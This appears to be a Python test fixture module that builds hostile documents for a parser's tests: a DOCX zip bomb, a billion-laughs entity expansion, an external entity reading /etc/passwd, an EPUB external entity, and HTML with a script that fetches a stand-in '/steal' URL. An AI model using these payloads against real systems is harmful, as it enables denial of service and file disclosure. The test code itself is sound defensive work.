"""Hostile documents, made small in the test: a zip bomb, billion laughs, external entities, scripts."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

#: a DOCX whose document.xml inflates 1000:1 (64 MB of spaces in a 64 KB member): refused by its ratio
BOMB_BYTES = 64 * 1024 * 1024

CONTENT_TYPES = """<?xml version="1.0" encoding="UTF-8"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/word/document.xml"
 ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
</Types>"""

LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"""

EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE doc [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>&secret;</w:t></w:r></w:p></w:body></w:document>"""

EPUB_CONTAINER = """<?xml version="1.0"?>
<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">
<rootfiles><rootfile full-path="content.opf" media-type="application/oebps-package+xml"/></rootfiles></container>"""

EPUB_OPF_EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE package [<!ENTITY title SYSTEM "http://example.invalid/title.txt">]>
<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata/><manifest/><spine/></package>"""

SCRIPTED_HTML = """<!doctype html><html><head><title>t</title>
<script>document.write("SCRIPT-RAN"); fetch("http://example.invalid/steal")</script></head>
<body><nav><a href="/">Home</a> <a href="/about">About</a></nav>
<div class="cookie-banner">We use cookies. Accept all?</div>
<main><h1>Kept heading</h1>
<p onclick="alert('x')">Kept paragraph with <a href="javascript:alert(1)">a fake link</a>.</p>
<img src="http://example.invalid/pixel.png" alt="A remote picture">
<iframe src="http://example.invalid/frame"></iframe></main>
<footer>Copyright footer text</footer></body></html>"""


def docx(path: Path, document_xml: str | bytes) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", CONTENT_TYPES)
        package.writestr("word/document.xml", document_xml)
    return path


def zip_bomb_docx(path: Path) -> Path:
    """Written member by member from a stream: the 64 MB never sit in this process's memory at once."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as package:
        package.writestr("[Content_Types].xml", CONTENT_TYPES)
        with package.open("word/document.xml", "w", force_zip64=True) as member:
            member.write(b'<?xml version="1.0"?><w:document xmlns:w="x"><w:body>')
            block = b" " * (1024 * 1024)
            for _ in range(BOMB_BYTES // len(block)):
                member.write(block)
            member.write(b"</w:body></w:document>")
    return path


def epub(path: Path, opf: str) -> Path:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr("mimetype", "application/epub+zip")
        package.writestr("META-INF/container.xml", EPUB_CONTAINER)
        package.writestr("content.opf", opf)
    path.write_bytes(buffer.getvalue())
    return path
